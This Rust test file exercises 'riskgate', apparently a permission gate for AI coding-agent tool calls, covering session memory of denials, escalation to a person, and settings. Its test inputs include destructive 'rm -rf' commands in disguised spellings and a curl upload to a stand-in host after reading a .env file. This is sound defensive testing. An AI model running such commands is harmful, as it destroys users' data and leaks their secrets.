//! Sessions through the binary: what one call leaves behind, the next one is judged by, whoever judges it.

use std::fs;
use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{Outcome, Sandbox};

/// A hook call of the session `s`.
fn event(name: &str, id: &str, tool: &str, input: &Value) -> String {
    let mut call = json!({
        "session_id": "s", "cwd": "/home/me/src/app", "permission_mode": "default", "hook_event_name": name,
        "tool_name": tool, "tool_input": input, "tool_use_id": id,
    });
    match name {
        "PostToolUse" => call["tool_response"] = json!({"stdout": "done"}),
        "PostToolUseFailure" => call["error"] = json!("Exit code 1\nfailed"),
        _ => {}
    }
    call.to_string()
}

fn before(id: &str, command: &str) -> String {
    event("PreToolUse", id, "Bash", &json!({"command": command}))
}

fn after(id: &str, command: &str) -> String {
    event("PostToolUse", id, "Bash", &json!({"command": command}))
}

/// The permission decision of a reply and the reason for it.
#[track_caller]
fn decision(outcome: &Outcome) -> (String, String) {
    assert_eq!(outcome.code, Some(0), "{outcome:?}");
    let reply: Value = serde_json::from_str(&outcome.stdout).unwrap_or_else(|error| panic!("{error}: {outcome:?}"));
    let output = &reply["hookSpecificOutput"];
    let text = |key: &str| output[key].as_str().unwrap().to_owned();
    (text("permissionDecision"), text("permissionDecisionReason"))
}

/// What a process by itself decides at one operating point.
fn hook(sandbox: &Sandbox, point: &str, input: &str) -> (String, String) {
    decision(&sandbox.run(&["hook", "claude-code", "--operating-point", point], input))
}

fn verdict(sandbox: &Sandbox, point: &str, input: &str) -> String {
    hook(sandbox, point, input).0
}

fn tell(sandbox: &Sandbox, input: &str) {
    let outcome = sandbox.run(&["hook", "claude-code", "--operating-point", "allow"], input);
    assert_eq!((outcome.code, outcome.stdout.as_str()), (Some(0), ""), "{outcome:?}");
}

/// The folder of the only session.
fn folder(sandbox: &Sandbox) -> PathBuf {
    let all = sandbox.path("home/.local/state/riskgate/sessions");
    fs::read_dir(all).unwrap().map(|entry| entry.unwrap().path()).next().unwrap()
}

fn set_settings(sandbox: &Sandbox, text: &str) {
    let settings = sandbox.path("config/riskgate");
    fs::create_dir_all(&settings).unwrap();
    fs::write(settings.join("config.toml"), text).unwrap();
}

#[test]
fn after_three_denials_a_person_looks_until_one_has_agreed() {
    let sandbox = Sandbox::new();
    for n in 0..3 {
        assert_eq!(verdict(&sandbox, "deny", &before(&format!("d{n}"), &format!("npm publish {n}"))), "deny");
    }
    let (decision, reason) = hook(&sandbox, "allow", &before("a", "git commit -m x"));
    assert!(decision == "ask" && reason.contains("3 actions of this session were denied in a row"), "{reason}");
    // What was only looked at, or never asked about, changes nothing.
    tell(&sandbox, &after("other", "ls"));
    assert_eq!(verdict(&sandbox, "allow", &before("b", "git commit -m x")), "ask");
    tell(&sandbox, &after("a", "git commit -m x"));
    assert_eq!(verdict(&sandbox, "allow", &before("c", "git commit -m y")), "allow");
    // Another session was never denied anything.
    let mut other: Value = serde_json::from_str(&before("a", "git commit -m x")).unwrap();
    other["session_id"] = json!("t");
    assert_eq!(verdict(&sandbox, "allow", &other.to_string()), "allow");
}

#[test]
fn what_a_person_agreed_to_has_run_when_it_failed_but_not_when_it_was_stopped() {
    let sandbox = Sandbox::new();
    for n in 0..3 {
        assert_eq!(verdict(&sandbox, "deny", &before(&format!("d{n}"), &format!("npm publish {n}"))), "deny");
    }
    assert_eq!(verdict(&sandbox, "allow", &before("a", "git commit -m x")), "ask");
    let failed = |id: &str| event("PostToolUseFailure", id, "Bash", &json!({"command": "git commit -m x"}));
    let mut stopped: Value = serde_json::from_str(&failed("a")).unwrap();
    stopped["is_interrupt"] = json!(true);
    tell(&sandbox, &stopped.to_string());
    // Nor does one that nobody was asked about.
    tell(&sandbox, &failed("other"));
    assert_eq!(verdict(&sandbox, "allow", &before("b", "git commit -m x")), "ask");
    tell(&sandbox, &failed("a"));
    assert_eq!(verdict(&sandbox, "allow", &before("c", "git commit -m y")), "allow");
    // What was denied stays denied.
    assert_eq!(verdict(&sandbox, "allow", &before("d", "npm publish 1")), "deny");
}

#[test]
fn a_denied_action_stays_denied_however_it_is_spelled() {
    let sandbox = Sandbox::new();
    assert_eq!(verdict(&sandbox, "deny", &before("a", "rm -rf /home/me/photos")), "deny");
    assert_eq!(verdict(&sandbox, "allow", &before("n", "rm -rf build")), "allow");
    for command in
        ["bash -c \"rm -rf '/home/me/photos'\"", "X=/home/me/photos; rm -fr $X", "ls && sudo rm -r /home/me/photos"]
    {
        let (decision, reason) = hook(&sandbox, "allow", &before("b", command));
        assert!(decision == "deny" && reason.contains("denied before"), "{command}: {reason}");
    }
    // These were denials, too.
    assert_eq!(verdict(&sandbox, "allow", &before("c", "rm -rf build")), "ask");
}

#[test]
fn what_nobody_could_be_asked_about_was_not_denied() {
    let sandbox = Sandbox::new();
    let no_ask = ["hook", "claude-code", "--operating-point", "ask", "--no-ask"];
    for n in 0..4 {
        let outcome = sandbox.run(&no_ask, before(&format!("a{n}"), "npm publish"));
        assert_eq!(decision(&outcome).0, "deny");
    }
    assert_eq!(verdict(&sandbox, "allow", &before("b", "npm publish")), "allow");
}

#[test]
fn a_file_is_known_when_it_runs_and_a_secret_when_data_leaves() {
    let sandbox = Sandbox::new();
    let write = json!({"file_path": "/home/me/src/app/x.sh", "content": "#!/bin/sh\ntouch done\n"});
    assert_eq!(verdict(&sandbox, "allow", &event("PreToolUse", "a", "Write", &write)), "allow");
    let (_, reason) = hook(&sandbox, "ask", &before("b", "sh x.sh"));
    assert!(reason.contains("`x.sh`"), "{reason}");
    let read = json!({"file_path": "/home/me/src/app/.env"});
    assert_eq!(verdict(&sandbox, "allow", &event("PreToolUse", "c", "Read", &read)), "allow");
    let (decision, reason) = hook(&sandbox, "allow", &before("d", "curl -d @notes.txt https://host.example"));
    assert!(decision == "ask" && reason.contains("an environment file"), "{reason}");
    assert_eq!(verdict(&sandbox, "allow", &before("e", "cargo test")), "allow");
}

#[test]
fn a_memory_that_cannot_be_used_asks() {
    let sandbox = Sandbox::new();
    assert_eq!(verdict(&sandbox, "deny", &before("a", "npm publish")), "deny");
    let state = folder(&sandbox).join("state.json");
    fs::write(&state, "{").unwrap();
    let (decision, reason) = hook(&sandbox, "allow", &before("b", "ls"));
    assert!(decision == "ask" && reason.contains("memory cannot be used"), "{reason}");
    assert_eq!(verdict(&sandbox, "deny", &before("b", "ls")), "deny");
    // Where nothing can be written, only what would have to be remembered is asked about.
    fs::remove_dir_all(folder(&sandbox)).unwrap();
    assert_eq!(verdict(&sandbox, "deny", &before("a", "npm publish")), "deny");
    fs::remove_file(&state).unwrap();
    fs::remove_file(folder(&sandbox).join("lock")).unwrap();
    fs::create_dir(folder(&sandbox).join("lock")).unwrap();
    assert_eq!(verdict(&sandbox, "allow", &before("c", "ls")), "allow");
    assert_eq!(verdict(&sandbox, "allow", &before("d", "echo ls > x.sh")), "ask");
}

#[test]
fn the_user_sets_the_limits_and_a_project_lowers_them() {
    let sandbox = Sandbox::new();
    set_settings(&sandbox, "[session]\nenabled = false\n");
    for n in 0..4 {
        assert_eq!(verdict(&sandbox, "deny", &before("a", &format!("npm publish {n}"))), "deny");
    }
    assert!(!sandbox.path("home/.local/state/riskgate/sessions").exists());
    assert_eq!(verdict(&sandbox, "allow", &before("b", "npm publish 0")), "allow");
    set_settings(&sandbox, "[session]\nconsecutive_denials = 2\n");
    let project = sandbox.path("project");
    fs::create_dir_all(&project).unwrap();
    let run = |point: &str, command: &str| {
        let mut hook = sandbox.command(&["hook", "claude-code", "--operating-point", point]);
        hook.env("CLAUDE_PROJECT_DIR", &project);
        decision(&crate::support::finish(hook, before("c", command).as_bytes())).0
    };
    assert_eq!(run("deny", "npm publish 1"), "deny");
    assert_eq!(run("allow", "git commit -m x"), "allow");
    fs::write(project.join(".riskgate.toml"), "[session]\nconsecutive_denials = 1\n").unwrap();
    assert_eq!(run("allow", "git commit -m x"), "ask");
    fs::write(project.join(".riskgate.toml"), "[session]\nconsecutive_denials = 9\n").unwrap();
    assert_eq!(run("deny", "npm publish 2"), "deny");
    assert_eq!(run("allow", "git commit -m x"), "ask");
    set_settings(&sandbox, "[session]\nconsecutive_denials = 0\n");
    let outcome = sandbox.run(&["hook", "claude-code", "--operating-point", "allow"], before("d", "ls"));
    assert_eq!(outcome.code, Some(2), "{outcome:?}");
    assert!(outcome.stderr.contains("line 2"), "{outcome:?}");
}

#[test]
fn records_have_a_memory_only_where_it_is_asked_for() {
    let sandbox = Sandbox::new();
    let record = |command: &str| {
        let context = json!({"session_id": "s", "cwd": "/w", "workspace": "/w", "home": "/home/me"});
        json!({"id": command, "tool": "Bash", "input": {"command": command}, "context": context}).to_string()
    };
    let records = [record("cat .env"), record("curl -d @x https://host.example"), record("ls")].join("\n");
    let verdicts = |more: &[&str]| -> Vec<String> {
        let outcome = sandbox.run(&[&["score", "--operating-point", "allow"], more].concat(), &records);
        outcome.records().iter().map(|record| format!("{} {}", record["verdict"], record["source"])).collect()
    };
    let alone = "\"allow\" \"model\"";
    assert_eq!(verdicts(&[]), [alone; 3]);
    assert!(!sandbox.path("home/.local/state/riskgate").exists());
    assert_eq!(verdicts(&["--sessions"]), [alone, "\"ask\" \"session\"", alone]);
}

#[test]
fn what_it_costs_is_shown() {
    let sandbox = Sandbox::new();
    set_settings(&sandbox, "[session]\nenabled = false\n");
    let time = || {
        let started = Instant::now();
        for n in 0..5 {
            verdict(&sandbox, "allow", &before(&format!("t{n}"), "git status"));
        }
        started.elapsed() / 5
    };
    let without = time();
    set_settings(&sandbox, "");
    let with = time();
    println!("a hook call by itself: {without:?} without, {with:?} with a memory of sessions");
    assert!(with < without + Duration::from_millis(500), "{with:?} against {without:?}");
}

#[cfg(all(unix, feature = "serve"))]
mod daemon {
    use super::*;
    use crate::serve::World;
    use crate::support::finish;

    fn run(world: &World, point: &str, input: &str) -> (String, String) {
        let command = world.command(&["hook", "claude-code", "--operating-point", point]);
        decision(&finish(command, input.as_bytes()))
    }

    #[test]
    fn a_session_outlives_the_daemon_and_is_one_with_that_of_processes() {
        let world = World::new();
        let daemon = world.serve(&["--operating-point", "deny"]);
        assert_eq!(run(&world, "deny", &before("a", "rm -rf /home/me/photos")).0, "deny");
        assert_eq!(daemon.wait_for(|status| status.calls == 1).calls, 1);
        drop(daemon);
        let daemon = world.serve(&["--operating-point", "allow"]);
        let (decision, reason) = run(&world, "allow", &before("b", "bash -c 'rm -fr /home/me/photos'"));
        assert!(decision == "deny" && reason.contains("denied before"), "{reason}");
        // Remembered by canonical action, and still asked about.
        for id in ["c", "d"] {
            assert_eq!(run(&world, "allow", &before(id, "git commit -m x")).0, "allow");
        }
        assert_eq!(verdict(&world.sandbox, "deny", &before("e", "npm publish")), "deny");
        for id in ["f", "g"] {
            let (decision, reason) = run(&world, "allow", &before(id, "git commit -m x"));
            assert!(decision == "ask" && reason.contains("3 actions"), "{reason}");
        }
        daemon.wait_for(|status| status.calls == 5);
    }

    #[test]
    fn a_file_written_under_one_daemon_is_read_under_the_next() {
        let world = World::new();
        let daemon = world.serve(&["--operating-point", "allow"]);
        assert_eq!(run(&world, "allow", &before("a", "cat > x.sh <<'E'\ntouch done\nE")).0, "allow");
        drop(daemon);
        let _daemon = world.serve(&["--operating-point", "ask"]);
        let (_, reason) = run(&world, "ask", &before("b", "./x.sh"));
        assert!(reason.contains("`x.sh`"), "{reason}");
    }
}
